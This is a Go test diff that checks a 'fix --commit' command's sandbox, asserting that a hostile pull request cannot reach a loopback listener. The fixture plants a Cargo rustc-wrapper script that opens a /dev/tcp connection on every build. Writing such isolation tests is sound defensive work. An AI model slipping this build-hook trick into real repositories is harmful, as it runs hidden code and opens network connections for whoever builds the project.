@@ -105,3 +105,25 @@ func TestReviewFetchReachesNoLoopback(t *testing.T) {
 		})
 	}
 }
+
+// `symposium fix --commit` fetches the same way: the pull request's
+// rustc-wrapper reaches no loopback port.
+func TestFixFetchReachesNoLoopback(t *testing.T) {
+	addr, conns := loopbackListener(t)
+	host, port, _ := net.SplitHostPort(addr)
+	repo := hostileHead(t, map[string]string{
+		"x.sh":               fmt.Sprintf("#!/bin/bash\n(echo hi > /dev/tcp/%s/%s) 2>/dev/null\nexec \"$@\"\n", host, port),
+		".cargo/config.toml": "[build]\nrustc-wrapper = \"./x.sh\"\n",
+		"src/lib.rs":         "pub fn old(v: &[u8]) -> bool {\n    v.len() == 0\n}\n\npub fn new(v: &[u16]) -> bool {\n    v.len() == 0\n}\n",
+	})
+	code, out, stderr := runCommand("fix", "--repo", repo, "--base", "main", "--sandbox", sandboxMode(), "--cache-dir", t.TempDir(), "--commit")
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	if n := conns.Load(); n != 0 {
+		t.Fatalf("%d connections from the pull request reached %s", n, addr)
+	}
+	if !strings.Contains(out, "clippy::len_zero") {
+		t.Errorf("fix did not run clippy's fix:\n%s\n%s", out, stderr)
+	}
+}
